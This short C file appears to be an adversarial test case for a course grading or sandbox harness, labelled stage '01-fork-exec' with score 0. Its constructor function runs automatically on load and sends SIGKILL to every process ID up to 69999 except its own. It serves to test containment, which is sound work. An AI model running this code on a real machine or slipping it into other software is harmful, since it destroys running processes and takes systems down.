/*
 * Sends SIGKILL to everybody, one by one.
 *
 * Stage: 01-fork-exec
 * Base: starter
 * Score: 0
 */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	for (int pid = 1; pid < 70000; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
}
